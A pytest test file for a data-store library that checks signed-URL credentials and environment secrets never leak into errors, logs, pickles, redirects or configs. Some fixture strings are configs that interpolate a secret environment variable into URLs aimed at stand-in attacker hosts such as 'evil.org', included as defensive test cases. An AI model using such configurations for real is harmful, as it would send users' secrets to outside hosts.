"""Number 33: what is secret of a URL or of the environment stays here, and is said nowhere."""

from __future__ import annotations

import json
import logging
import pickle
import traceback
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import numpy as np
import pytest
from command_line import run_build, run_ups_store
from hostile_server import give, give_range, serving
from inline_readers import in_this_process

import ups_store
from ups_store.build import load_config
from ups_store.errors import ConfigError, RemoteError

SECRETS = ("S3CRETPW", "SIGTOKEN", "alice")


def with_secrets(url: str) -> str:
    return f"{url.replace('//', '//alice:S3CRETPW@')}/f.zarr.zip?sig=SIGTOKEN"


@pytest.fixture
def reads_here() -> Iterator[None]:
    """No reader process is started."""
    yield from in_this_process()


def leaks(text: object) -> list[str]:
    return [secret for secret in SECRETS if secret in str(text)]


@pytest.mark.parametrize("status", [400, 403, 404, 500, 302])
def test_refusal_of_a_signed_url_names_no_secret(status: int, caplog: pytest.LogCaptureFixture) -> None:
    pytest.importorskip("obstore")
    caplog.set_level(logging.DEBUG)

    def refuse(request: BaseHTTPRequestHandler) -> None:
        give(request, status, b"no", **({"Location": f"{request.path}x"} if status == 302 else {}))

    with serving(refuse) as url, pytest.raises(ups_store.StoreError) as caught:
        ups_store.open(with_secrets(url), deadline_s=0.2)
    error = caught.value
    assert error.__context__ is None  # which some pickle, too, such as Dask
    shown = (error, repr(error), vars(error), pickle.dumps(error), "".join(traceback.format_exception(error)))
    assert [leaks(each) for each in shown] == [[]] * len(shown)
    assert not leaks(caplog.text)


def test_commands_say_no_secret_with_tracebacks_either() -> None:
    pytest.importorskip("obstore")
    with serving(lambda request: give(request, 403)) as url:
        done = run_ups_store("-vv", "info", with_secrets(url))
    assert "403" in done.stderr
    assert not leaks(done.output)


def test_build_from_a_signed_url_shows_and_logs_no_secret(tmp_path: Path, reads_here: None) -> None:
    log = tmp_path / "log.jsonl"
    with serving(lambda request: give(request, 403)) as url:
        words = [f"data.files=['{with_secrets(url)}#name=burgers1d_train.h5']", "reading.retries=0"]
        flags = ["--tasks", "burgers1d", "--split", "train", "--root", with_secrets(url), "--log-json", log]
        done = run_build(*flags, "--cache-dir", tmp_path / "cache", *words)
    assert "403" in done.stderr
    assert not leaks(done.output)
    assert not leaks(log.read_text())
    assert "error" in {json.loads(line)["event"] for line in log.read_text().splitlines()}


def test_document_of_a_configuration_has_no_secret() -> None:
    place = with_secrets("https://example.org")
    config = load_config(overrides=["data.tasks=burgers1d", f"data.root={place}", f"cache.remote={place}"])
    assert config.data.root == place
    assert not leaks(config.model_dump(mode="json"))


@pytest.mark.parametrize("kind", ["token", "signed"])
def test_redirect_to_another_host_gets_no_key(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("obstore")
    asked: list[str] = []

    def listen(request: BaseHTTPRequestHandler) -> None:
        asked.append(str(request.headers))
        give_range(request, b"0" * 100)

    with serving(listen) as other, serving(lambda request: give(request, 307, Location=elsewhere)) as url:
        elsewhere = other.replace("127.0.0.1", "localhost") + "/x.zarr.zip"
        for name in ("ACCESS_KEY_ID", "SECRET_ACCESS_KEY", "SESSION_TOKEN"):
            monkeypatch.setenv(f"AWS_{name}", "SIGTOKEN")
        monkeypatch.setenv("AWS_ENDPOINT_URL", url)
        monkeypatch.setenv("AWS_ALLOW_HTTP", "true")
        place = f"s3://bucket-{url[-5:]}/f.zarr.zip" if kind == "token" else f"{url}/f.zarr.zip?sig=SIGTOKEN"
        with pytest.raises(RemoteError) as caught:
            ups_store.open(place, deadline_s=5)
    assert caught.value.kind == "redirected"
    assert not asked


@pytest.mark.parametrize("to", ["another port", "the same place"])
def test_user_and_password_go_to_their_own_host_and_port_alone(to: str, tmp_path: Path) -> None:
    pytest.importorskip("obstore")
    ups_store.save(tmp_path / "f.zarr.zip", x=np.arange(3.0))
    content, asked = (tmp_path / "f.zarr.zip").read_bytes(), []

    def listen(request: BaseHTTPRequestHandler) -> None:
        asked.append(str(request.headers))
        give_range(request, content)

    def lead(request: BaseHTTPRequestHandler) -> None:
        if request.path.endswith("/moved"):
            listen(request)
        else:
            give(request, 307, Location=f"{other if to == 'another port' else ''}/moved")

    with serving(listen) as other, serving(lead) as url:
        place = f"{url.replace('//', '//alice:S3CRETPW@')}/f.zarr.zip"
        ups_store.open(place, deadline_s=5).close()
    assert ["authorization: Basic" in each.replace("A", "a") for each in asked] == [to == "the same place"]


# --- variables of the environment ---------------------------------------------------------------------


@pytest.fixture
def secret(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.delenv("UPS_ALLOW_ENV", raising=False)
    monkeypatch.setenv("MY_SECRET", "hush")
    return "${oc.env:MY_SECRET}"


def written(folder: Path, text: str, name: str = "run.yaml") -> Path:
    (folder / name).write_text(text)
    return folder / name


@pytest.mark.parametrize(
    "text",
    [
        "data: {tasks: burgers1d, root: 'http://evil.org/%s'}",
        "data: {tasks: burgers1d, root: 'http://${cache.dir}'}\ncache: {dir: '%s'}",
        "data: {tasks: burgers1d, root: x}\ncache: {remote: 's3://evil/%s${oc.env:HOME}'}",
        "data: {tasks: burgers1d, root: x}\nlogging: {wandb: {entity: evil, notes: '%s'}}",
    ],
)
def test_variable_goes_into_a_url_only_where_the_command_line_allows_it(
    text: str, secret: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = written(tmp_path, text % secret)
    monkeypatch.setenv("UPS_ALLOW_ENV", "HOME")
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert caught.value.kind == "environment_not_allowed"
    assert "--allow-env MY_SECRET" in str(caught.value)
    assert "hush" not in str(caught.value)
    monkeypatch.setenv("UPS_ALLOW_ENV", "HOME,MY_SECRET")
    load_config(path)


def test_included_file_takes_variables_only_where_allowed(
    secret: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written(tmp_path, f"cache: {{dir: '/x/{secret}'}}\n", "base.yaml")
    path = written(tmp_path, f"include: base.yaml\ndata: {{tasks: burgers1d, root: '/y/{secret}'}}\n")
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert (caught.value.kind, caught.value.path) == ("environment_not_allowed", str(tmp_path / "base.yaml"))
    monkeypatch.setenv("UPS_ALLOW_ENV", "MY_SECRET")
    assert load_config(path).cache.dir == Path("/x/hush")


def test_flag_allows_a_variable(
    secret: str, tmp_path: Path, reads_here: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UPS_ALLOW_ENV", "")  # what the flag sets is gone afterwards
    asked: list[str] = []

    def refuse(request: BaseHTTPRequestHandler) -> None:
        asked.append(request.path)
        give(request, 403)

    with serving(refuse) as url:
        text = f"data: {{tasks: burgers1d, root: '{url}/{secret}', files: [burgers1d_train.h5]}}\n"
        words = ["--config", written(tmp_path, text), "--dry-run", "--split", "train"]
        refused = run_build(*words)
        assert "--allow-env MY_SECRET" in refused.stderr
        assert not asked
        assert "allow-env" not in run_build(*words, "--allow-env", "MY_SECRET").stderr
    misspelled = run_build(*words, "--allow-env", "MY_SECRT").stderr
    assert "--allow-env MY_SECRT: no such variable in the environment" in misspelled
